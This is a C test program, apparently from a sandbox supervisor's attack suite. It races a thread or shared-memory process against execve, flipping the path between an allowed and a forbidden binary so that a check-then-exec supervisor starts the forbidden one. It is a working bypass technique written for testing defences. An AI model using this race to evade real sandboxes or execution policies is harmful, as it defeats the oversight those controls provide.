/* atk-exec-race TRIES ALLOWED FORBIDDEN MARKER [process] - the
 * time-of-check race on execve's path argument.
 *
 * Each try forks a child whose second thread keeps rewriting the path
 * buffer between ALLOWED and FORBIDDEN while the main thread calls execve
 * on it.  With "process" the rewriter is another process writing the same
 * MAP_SHARED page (freezing the caller's threads would not stop it).  A supervisor that reads the path, says "allowed" and lets the
 * kernel read it again can be fooled into starting FORBIDDEN.  FORBIDDEN
 * (cg-forbidden) appends a line to MARKER each time it really runs, so
 * run.sh counts the lines.  Prints a summary of what the children saw.
 */
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "atk.h"

extern char **environ;

struct race {
	char path[256];
	char allowed[256];
	char forbidden[256];
	atomic_int stop;
	atomic_int started;
};

/* Busy-wait through system calls: a thread spinning in user mode delays
 * the exec's kill of the other threads by a scheduler tick. */
static void spin(unsigned n)
{
	for (unsigned i = 0; i < n; i++)
		syscall(SYS_getppid);
}

/* Hold each string for a varying time, from nothing to tens of
 * microseconds, so that some tries match the supervisor's latency. */
static void *flipper(void *arg)
{
	struct race *r = arg;
	unsigned seed = (unsigned)getpid();
	atomic_store(&r->started, 1);
	while (!atomic_load_explicit(&r->stop, memory_order_relaxed)) {
		memcpy(r->path, r->forbidden, sizeof r->path);
		spin(rand_r(&seed) % 64);
		memcpy(r->path, r->allowed, sizeof r->path);
		spin(rand_r(&seed) % 64);
	}
	return NULL;
}

static void child(struct race *r, const char *marker, bool is_process)
{
	char *args[] = { "true", (char *)marker, NULL };
	pthread_t t;
	if (is_process) {
		pid_t flip = fork();
		if (flip == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			flipper(r);
			_exit(0);
		}
		if (flip < 0)
			_exit(90);
	} else if (pthread_create(&t, NULL, flipper, r) != 0) {
		_exit(90);
	}
	while (!atomic_load(&r->started))
		sched_yield();
	/* Both strings are sent, the flipper picks which one the kernel sees. */
	for (int i = 0; i < 8; i++)
		execve(r->path, args, environ);
	_exit(errno == EPERM || errno == EACCES ? 91 : 92);
}

int main(int argc, char **argv)
{
	if (argc != 5 && argc != 6)
		atk_die("usage: atk-exec-race TRIES ALLOWED FORBIDDEN MARKER [process]");
	long tries = strtol(argv[1], NULL, 10);
	bool is_process = argc == 6 && !strcmp(argv[5], "process");
	struct race *shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE,
				   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		atk_die("mmap: %m");

	long exited_ok = 0, denied = 0, other = 0, killed = 0, forbidden_status = 0;
	for (long i = 0; i < tries; i++) {
		pid_t pid = fork();
		if (pid < 0)
			atk_die("fork: %m");
		if (pid == 0) {
			/* A fresh page per try: the last try's flipper may still be
			 * winding down. */
			struct race *r = shared;
			memset(r, 0, sizeof *r);
			snprintf(r->allowed, sizeof r->allowed, "%s", argv[2]);
			snprintf(r->forbidden, sizeof r->forbidden, "%s", argv[3]);
			memcpy(r->path, r->allowed, sizeof r->path);
			child(r, argv[4], is_process);
		}
		int status;
		if (waitpid(pid, &status, 0) < 0)
			atk_die("waitpid: %m");
		if (WIFSIGNALED(status))
			killed++;
		else if (WEXITSTATUS(status) == 0)
			exited_ok++;   /* /usr/bin/true, or cg-forbidden (the marker tells) */
		else if (WEXITSTATUS(status) == 91)
			denied++;
		else if (WEXITSTATUS(status) == 92)
			other++;
		else
			forbidden_status++;
	}
	printf("tries=%ld exited0=%ld denied=%ld other_errno=%ld killed=%ld other_status=%ld\n",
	       tries, exited_ok, denied, other, killed, forbidden_status);
	return 0;
}
